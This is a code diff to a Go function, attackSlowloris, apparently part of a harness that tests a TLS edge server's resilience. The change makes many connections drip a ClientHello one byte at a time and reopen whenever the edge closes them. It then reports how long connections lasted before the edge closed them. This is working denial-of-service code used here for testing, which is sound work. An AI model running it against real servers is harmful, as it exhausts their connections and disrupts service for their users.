@@ -834,54 +834,60 @@ func clientHello() []byte {
 	return append(hdr, body...)
 }
 
+// attackSlowloris keeps -slow-conns connections to the shared address's
+// TLS port, each sending a ClientHello for the victim one byte every
+// -slow-every; a connection the edge closes is opened again.
 func attackSlowloris(ctx context.Context, _ *edge, _ *machines) string {
 	hello := clientHello()
 	addr := net.JoinHostPort(sharedV4, httpsPort)
-	var opened, dialErrs, closed atomic.Int64
-	closeTimes := make(chan time.Duration, *slowConns)
+	var opened, dialErrs atomic.Int64
+	var mu sync.Mutex
+	var ct []time.Duration // how long each connection the edge closed lasted
 	var wg sync.WaitGroup
 	for range *slowConns {
 		wg.Go(func() {
-			d := net.Dialer{Timeout: time.Second}
-			c, err := d.DialContext(ctx, "tcp", addr)
-			if err != nil {
-				dialErrs.Add(1)
-				return
-			}
-			defer c.Close()
-			opened.Add(1)
-			began := time.Now()
-			gone := make(chan struct{})
-			go func() {
-				b := make([]byte, 1)
-				c.Read(b)
-				close(gone)
-			}()
-			for i := 0; i < len(hello); i++ {
-				if _, err := c.Write(hello[i : i+1]); err != nil {
-					break
+			for ctx.Err() == nil {
+				d := net.Dialer{Timeout: time.Second}
+				c, err := d.DialContext(ctx, "tcp", addr)
+				if err != nil {
+					if ctx.Err() == nil {
+						dialErrs.Add(1)
+						time.Sleep(100 * time.Millisecond)
+					}
+					continue
 				}
-				select {
-				case <-ctx.Done():
-					return
-				case <-gone:
-					closed.Add(1)
-					closeTimes <- time.Since(began)
-					return
-				case <-time.After(*slowEvery):
+				opened.Add(1)
+				began := time.Now()
+				gone := make(chan struct{})
+				go func() {
+					b := make([]byte, 1)
+					c.Read(b)
+					close(gone)
+				}()
+			send:
+				for i := 0; i < len(hello); i++ {
+					if _, err := c.Write(hello[i : i+1]); err != nil {
+						break
+					}
+					select {
+					case <-ctx.Done():
+						break send
+					case <-gone:
+						mu.Lock()
+						ct = append(ct, time.Since(began))
+						mu.Unlock()
+						break send
+					case <-time.After(*slowEvery):
+					}
 				}
+				c.Close()
 			}
 		})
 	}
 	wg.Wait()
-	close(closeTimes)
-	var ct []time.Duration
-	for d := range closeTimes {
-		ct = append(ct, d)
-	}
 	slices.Sort(ct)
-	s := fmt.Sprintf("%d connections to %s, a %d-byte ClientHello one byte every %s: %d opened, %d dials failed, %d closed by the edge during the attack",
-		*slowConns, addr, len(hello), *slowEvery, opened.Load(), dialErrs.Load(), closed.Load())
+	s := fmt.Sprintf("%d connections at a time to %s, a %d-byte ClientHello one byte every %s: %d opened, %d dials failed, %d closed by the edge during the attack",
+		*slowConns, addr, len(hello), *slowEvery, opened.Load(), dialErrs.Load(), len(ct))
 	if len(ct) > 0 {
 		s += fmt.Sprintf(" (after %.1f s median)", ct[len(ct)/2].Seconds())
 	}
